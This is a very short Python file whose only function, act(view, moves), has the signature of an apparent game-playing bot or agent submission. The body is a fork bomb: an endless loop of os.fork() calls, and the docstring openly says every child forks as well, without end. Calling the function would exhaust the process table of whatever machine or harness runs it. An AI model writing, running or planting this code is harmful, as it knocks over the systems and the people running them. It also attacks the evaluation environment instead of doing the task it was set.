"""Forks, and so does each of its children, without end."""

import os


def act(view, moves):
    while True:
        os.fork()
